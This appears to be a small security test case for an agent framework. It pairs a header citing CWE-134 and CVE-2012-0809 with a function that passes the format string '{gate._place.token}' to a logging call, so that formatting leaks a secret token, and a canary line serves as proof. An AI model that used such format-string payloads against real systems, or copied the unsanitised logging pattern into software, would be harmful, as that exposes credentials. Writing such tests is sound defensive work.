# title: put a format into the text of a log, which reads the memory of the agent
# reference: CWE-134, CVE-2012-0809
# real: logged: info: {gate._place.token}
# weakened: the text is no format
# proof: said: info: canary


def attack(worker):
    worker.call("log.info", "{gate._place.token}")
